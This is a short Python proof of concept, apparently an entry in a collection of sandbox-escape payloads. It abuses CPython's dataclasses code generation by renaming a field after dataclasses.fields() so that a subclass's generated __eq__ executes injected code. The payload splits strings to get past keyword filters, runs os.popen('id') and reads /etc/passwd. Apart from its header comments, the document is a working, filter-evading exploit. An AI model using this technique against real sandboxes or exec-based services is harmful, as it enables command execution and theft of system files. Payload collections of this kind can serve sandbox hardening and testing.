# source: CPython Lib/dataclasses.py _create_fn exec() of field names (code-injection via dataclass field names, cf. pyjail 'namedtuple/dataclass codegen' tricks)
# family: dataclasses codegen: Field.name mutated after dataclasses.fields(), inherited by a subclass whose __eq__ is built by exec
# goal: runs os.popen('id') and reads /etc/passwd
import dataclasses


@dataclasses.dataclass
class Base:
    a: int = 0


u = "_" * 2
payload = "print(" + u + "import" + u + "('o' 's').popen('id').read(), " + "op" + "en('/etc/passwd').read()[:200])"
f = dataclasses.fields(Base)[0]
f.name = "a) or (" + payload + ",) or (self.a"


@dataclasses.dataclass(init=False, repr=False)
class Sub(Base):
    pass


print(Sub() == Sub())
